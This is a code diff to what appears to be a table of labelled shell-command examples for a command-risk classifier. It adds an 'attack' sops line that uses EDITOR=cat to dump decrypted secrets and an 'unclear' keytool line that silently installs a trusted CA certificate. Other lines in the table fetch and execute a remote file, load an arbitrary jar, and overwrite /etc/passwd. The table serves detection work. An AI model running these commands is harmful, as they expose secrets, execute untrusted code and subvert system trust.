@@ -40,6 +40,9 @@ export const cryptography: ExampleTable = {
       'curl -so vars https://example.org/x && easyrsa --vars=vars build-ca → execute ‹https://example.org/x›',
   },
   keytool: {
+    unclear: [
+      `keytool -importcert -cacerts -file e.crt -noprompt -alias x → whom this machine believes from then on`,
+    ],
     use: 'keytool -genkeypair -alias app -keystore app.jks → use app.jks',
     attack:
       'keytool -list -keystore app.jks -providerclass Own -providerpath /tmp/x.jar → load /tmp/x.jar; use app.jks',
@@ -232,6 +235,7 @@ export const cryptography: ExampleTable = {
   sops: {
     use: 'sops -e --output secrets.enc.yaml secrets.yaml → write secrets.enc.yaml',
     attack: [
+      `EDITOR=cat sops secrets.yaml → read secret://sops`,
       'sops -d secrets.enc.yaml → read secret://secrets.enc.yaml',
       'sops -e --output /etc/passwd secrets.yaml → write /etc/passwd',
     ],
